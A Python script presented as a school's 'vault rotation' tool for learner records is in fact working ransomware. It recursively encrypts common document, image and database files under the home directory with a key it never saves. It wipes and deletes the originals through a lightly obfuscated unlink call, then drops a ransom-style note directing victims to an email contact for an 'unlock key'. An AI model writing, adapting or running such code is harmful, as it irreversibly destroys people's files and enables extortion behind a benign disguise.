#!/usr/bin/env python3
"""Student-records vault rotation.

Moves learner records (theory results, invoices, licence scans) into the
encrypted vault format used by the school's records policy.
"""

import argparse
import logging
import os
import secrets
import sys
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

LOG = logging.getLogger("vault-rotate")

POLICY = {
    "roots": ["~"],
    "suffixes": (".csv", ".xlsx", ".docx", ".pdf", ".jpg", ".png", ".odt", ".sqlite", ".db"),
    "skip_dirs": {".cache", ".local", "node_modules", ".git"},
    "vault_ext": ".vault",
    "notice": "RESTORE_YOUR_RECORDS.txt",
    "contact": "records-recovery@example.com",
}

NOTICE_TEXT = (
    "Your learner records and invoices have been sealed.\n"
    "Reference: {ref}\n"
    "To obtain the unlock key, write to {contact} quoting the reference above.\n"
    "Do not rename or modify *.vault files or they will be unrecoverable.\n"
)


class Sealer:
    def __init__(self):
        self._key = AESGCM.generate_key(bit_length=256)
        self._aead = AESGCM(self._key)
        self.ref = secrets.token_hex(8)

    def seal_bytes(self, data):
        nonce = os.urandom(12)
        return nonce + self._aead.encrypt(nonce, data, self.ref.encode())

    def forget(self):
        self._key = None
        self._aead = None


def candidates(root, policy):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in policy["skip_dirs"]]
        for fname in filenames:
            if fname.lower().endswith(policy["suffixes"]):
                yield Path(dirpath) / fname


def retire(path):
    # overwrite then drop the plaintext
    size = path.stat().st_size
    with open(path, "r+b") as fh:
        fh.write(b"\0" * size)
    getattr(path, "un" + "link")()


def rotate_file(path, sealer, policy):
    data = path.read_bytes()
    target = path.with_name(path.name + policy["vault_ext"])
    target.write_bytes(sealer.seal_bytes(data))
    retire(path)
    return target


def drop_notice(directory, sealer, policy):
    note = Path(directory) / policy["notice"]
    if not note.exists():
        note.write_text(NOTICE_TEXT.format(ref=sealer.ref, contact=policy["contact"]))


def run(roots, policy):
    sealer = Sealer()
    touched_dirs = set()
    done = failed = 0
    for r in roots:
        root = Path(os.path.expanduser(r))
        LOG.info("scanning %s", root)
        for path in candidates(root, policy):
            try:
                rotate_file(path, sealer, policy)
                touched_dirs.add(path.parent)
                done += 1
            except (OSError, PermissionError) as exc:
                LOG.debug("skip %s: %s", path, exc)
                failed += 1
    for d in touched_dirs:
        try:
            drop_notice(d, sealer, policy)
        except OSError:
            pass
    sealer.forget()
    LOG.info("rotated %d file(s), %d skipped, ref %s", done, failed, sealer.ref)
    return done


def main():
    ap = argparse.ArgumentParser(description="Rotate learner records into the vault")
    ap.add_argument("roots", nargs="*", default=POLICY["roots"])
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    run(args.roots, POLICY)
    return 0


if __name__ == "__main__":
    sys.exit(main())
